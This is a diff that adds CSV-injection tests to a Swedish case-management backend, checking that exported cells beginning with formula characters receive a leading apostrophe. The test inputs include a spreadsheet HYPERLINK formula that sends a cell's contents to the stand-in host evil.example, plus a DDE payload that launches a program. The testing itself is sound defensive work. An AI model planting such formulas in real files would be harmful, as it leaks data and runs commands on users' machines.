@@ -114,3 +114,25 @@ def test_scrub_known_names():
     assert scrub("Karlsson och Anderssons", names) == "Karlsson och Anderssons"  # whole words only
     assert scrub("åsa öberg ringde", names) == "[namn] ringde"
     assert scrub("Ingen nämnd", ()) == "Ingen nämnd"
+
+
+async def test_csv_cells_are_never_read_as_formulas(kg):
+    """A free text that starts with = + - @ is written with a leading apostrophe (CSV injection)."""
+    c = await kg.new_case(tags=["cancer"], description='=HYPERLINK("http://evil.example/?x="&A1;"Klicka")',
+                          desired_outcome="@SUM(1+1)")
+    r = await export(kg, format="csv")
+    rows = list(csv.DictReader(io.StringIO(await r.text()), delimiter=";"))
+    row = next(x for x in rows if x["reference"] == c["reference"])
+    assert row["description"].startswith("'=HYPERLINK(")
+    assert row["desired_outcome"] == "'@SUM(1+1)"
+
+
+def test_safe_cell_and_the_statistics_csv():
+    from backend.services.csv_cells import safe_cell
+    from backend.services.stats import category_csv
+    for bad in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
+        assert safe_cell(bad) == "'" + bad
+    assert safe_cell("Vanlig text") == "Vanlig text" and safe_cell(-3) == -3 and safe_cell(None) is None
+    text = category_csv({"rows": [{"level": "main", "code": "x", "label": "=cmd|' /C calc'!A0", "reported": 5,
+                                   "handled": 5, "reported_share": 1.0, "handled_share": 1.0}], "total": 5})
+    assert ";'=cmd|" in text and ";=cmd" not in text
